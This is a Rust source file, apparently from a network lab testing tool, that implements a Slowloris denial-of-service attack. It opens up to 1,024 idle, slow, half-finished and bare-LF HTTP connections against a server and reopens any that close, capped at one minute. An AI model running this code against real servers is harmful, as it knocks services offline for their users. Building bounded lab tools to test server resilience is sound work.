//! Clients that hold an HTTP server's connections, from inside a lab node: idle ones (connected, silent), slow
//! ones (a request head that never ends, a byte at a time), half ones (a request line and a header, then silence)
//! and bare-LF ones (a whole request with bare LF line ends, the answer never read). Each connection the server
//! closes is opened again at once, for a bounded time.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::attack::Attack;
use crate::error::Result;
use crate::lab::Lab;
use crate::spec::NodeId;

/// What the clients do.
#[derive(Debug, Clone, Copy)]
pub struct Slowloris {
    /// The server.
    pub to: SocketAddr,
    /// Connections held at once (at most 1,024), the four kinds in turn.
    pub connections: usize,
    /// How long (at most a minute).
    pub duration: Duration,
}

/// The longest attack allowed, and the most connections.
const MAX_DURATION: Duration = Duration::from_secs(60);
const MAX_CONNECTIONS: usize = 1024;

/// How often every connection is looked at, and a slow one sends its next byte.
const TICK: Duration = Duration::from_millis(100);

impl Lab {
    /// Starts `slowloris` from `node`; [`Attack::stop`] gives how many connections were opened.
    pub fn slowloris(&self, node: NodeId, slowloris: Slowloris) -> Result<Attack> {
        Attack::start(self, node, "netlab-slowloris", move |stop| run(&slowloris, stop))
    }
}

fn run(attack: &Slowloris, stop: &AtomicBool) -> std::io::Result<u64> {
    let started = Instant::now();
    let duration = attack.duration.min(MAX_DURATION);
    let mut held: Vec<Option<TcpStream>> = (0..attack.connections.min(MAX_CONNECTIONS)).map(|_| None).collect();
    let mut opened = 0;
    while started.elapsed() < duration && !stop.load(Ordering::Relaxed) {
        for (n, slot) in held.iter_mut().enumerate() {
            if slot.as_mut().is_some_and(|stream| closed(stream) || (n % 4 == 1 && stream.write_all(b"a").is_err())) {
                *slot = None;
            }
            if slot.is_none() {
                *slot = open(attack.to, n % 4);
                opened += u64::from(slot.is_some());
            }
        }
        thread::sleep(TICK);
    }
    Ok(opened)
}

/// A connection of `kind` (idle, slow, half, bare LF), its first bytes sent; `None` when it cannot connect.
fn open(to: SocketAddr, kind: usize) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(1)).ok()?;
    let first: &[u8] = match kind {
        0 => b"",
        1 => b"GET /metrics HTTP/1.1\r\nX-Slow: ",
        2 => b"GET /metrics HTTP/1.1\r\nHost: lab\r\n",
        _ => b"GET /metrics HTTP/1.1\nHost: lab\n\n",
    };
    stream.write_all(first).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}

/// Whether the server closed `stream` (what it sent before is read and dropped).
fn closed(stream: &mut TcpStream) -> bool {
    let mut buf = [0; 4096];
    loop {
        match stream.read(&mut buf) {
            Ok(0) => return true,
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => return false,
            Err(_) => return true,
        }
    }
}
